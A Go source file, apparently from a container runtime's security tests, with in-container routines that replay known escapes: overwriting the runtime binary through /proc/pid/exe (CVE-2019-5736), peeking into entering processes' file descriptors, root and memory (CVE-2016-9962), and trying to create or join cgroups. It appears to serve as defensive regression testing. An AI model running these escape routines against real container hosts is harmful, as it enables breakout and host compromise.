package security

import (
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// The roles here are a container's processes that watch for others to come
// into their pid namespace, for as long as out has no file "stop".

// maxLooks bounds a watch; one look takes some microseconds.
const maxLooks = 20_000_000

// watch calls look with every other process, again and again, and at the end
// makes the file "done". A process that has executed the image's own program
// is not of interest.
func watch(out string, look func(pid string), after func()) error {
	self := strconv.Itoa(os.Getpid())
	if err := os.WriteFile(out+"/ready", nil, 0o644); err != nil {
		return err
	}
	for range maxLooks {
		names, err := readNames("/proc")
		if err != nil {
			return err
		}
		for _, n := range names {
			if n[0] >= '1' && n[0] <= '9' && n != self {
				look(n)
			}
		}
		after()
		if _, err := os.Lstat(out + "/stop"); err == nil {
			break
		}
	}
	after()
	return os.WriteFile(out+"/done", nil, 0o644)
}

// readNames is os.ReadDir without an lstat and without sorting.
func readNames(dir string) ([]string, error) {
	f, err := os.Open(dir)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return f.Readdirnames(-1)
}

type fileID struct{ dev, ino uint64 }

func idOf(path string) (fileID, error) {
	var st unix.Stat_t
	err := unix.Stat(path, &st)
	return fileID{uint64(st.Dev), st.Ino}, err
}

// playSeize gets hold of what other processes were executed from, and tries to
// write there, above all when they have ended (CVE-2019-5736). fd 3, if there
// is one, is such a file already.
func playSeize(out string) error {
	own, err := idOf("/self")
	if err != nil {
		return err
	}
	held := map[fileID]int{}
	hold := func(path string) {
		fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		// Of what is open now: the process may have executed another program
		// meanwhile. Another container's root may be seen from outside.
		to, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		switch name := filepath.Base(strings.TrimSuffix(to, " (deleted)")); {
		case err != nil, name == "self", name == "elf", name == "script": // an image's own
			unix.Close(fd)
			return
		}
		var st unix.Stat_t
		id := fileID{}
		if unix.Fstat(fd, &st) == nil {
			id = fileID{uint64(st.Dev), st.Ino}
		}
		if _, has := held[id]; has || id == own || id.ino == 0 {
			unix.Close(fd)
			return
		}
		held[id] = fd
		os.WriteFile(out+"/seized", []byte(to+"\n"), 0o644)
	}
	hold("/proc/self/fd/3")
	return watch(out, func(pid string) { hold("/proc/" + pid + "/exe") }, func() {
		for _, fd := range held {
			if f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0); err == nil {
				if _, err := f.Write([]byte("#!/owned\n")); err == nil {
					link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
					os.WriteFile(out+"/written", []byte(link), 0o644)
				}
				f.Close()
			}
		}
	})
}

// playSeizeHook is a hook in the container, which init waits for: it leaves a
// playSeize behind that has got hold of init's program.
func playSeizeHook(out string) error {
	fd, err := unix.Open("/proc/1/exe", unix.O_PATH, 0)
	if err != nil {
		return err
	}
	cmd := exec.Command("/self", "play", "seize", out)
	cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(fd), "exe")}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return cmd.Start()
}

// found returns what a process lets others see of it: what it has open, its
// root, and its memory.
func found(proc string) []string {
	var out []string
	names, _ := readNames(proc + "/fd")
	for _, n := range append(names, "../root", "../cwd", "../exe") {
		if to, err := os.Readlink(proc + "/fd/" + n); err == nil {
			out = append(out, n+"="+to)
		}
	}
	if _, err := os.Lstat(proc + "/root" + victim + "/secret"); err == nil {
		out = append(out, "the host's root")
	}
	if fd, err := unix.Open(proc+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
		unix.Close(fd)
		out = append(out, "mem")
	}
	return out
}

// playPeep looks into processes that come and are not the image's program yet
// (CVE-2016-9962).
func playPeep(out string) error {
	return watch(out, func(pid string) {
		proc := "/proc/" + pid
		comm, err := os.ReadFile(proc + "/comm")
		if err != nil || string(comm) == "self\n" {
			return
		}
		os.WriteFile(out+"/seen", comm, 0o644)
		see := found(proc)
		again, err := os.ReadFile(proc + "/comm")
		if len(see) == 0 || err != nil || string(again) != string(comm) {
			return // it may have been the program's already
		}
		appendLine(out+"/leak", strings.TrimSpace(string(comm))+": "+strings.Join(see, ", "))
	}, func() {})
}

func appendLine(path, line string) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return
	}
	defer f.Close()
	if st, err := f.Stat(); err == nil && st.Size() < 4096 {
		fmt.Fprintln(f, line)
	}
}

// playPeepOnce prints what a process lets others see of it, or writes it to
// the file that is named.
func playPeepOnce(args ...string) error {
	text := "ran\n"
	for _, f := range found("/proc/" + args[0]) {
		text += "found " + f + "\n"
	}
	if len(args) > 1 {
		return os.WriteFile(args[1], []byte(text), 0o644)
	}
	_, err := fmt.Print(text)
	return err
}

// playCgroups tries to make a cgroup, and to move a process, in every cgroup
// that can be seen, and prints where it could.
func playCgroups() error {
	fmt.Println("ran")
	return filepath.WalkDir("/sys/fs/cgroup", func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.IsDir() {
			return nil
		}
		if err := os.Mkdir(path+"/escape", 0o755); err == nil {
			fmt.Println("made", path+"/escape")
			return fs.SkipDir
		}
		if f, err := os.OpenFile(path+"/cgroup.procs", os.O_WRONLY, 0); err == nil {
			f.Close()
			fmt.Println("opened", path+"/cgroup.procs")
		}
		return nil
	})
}
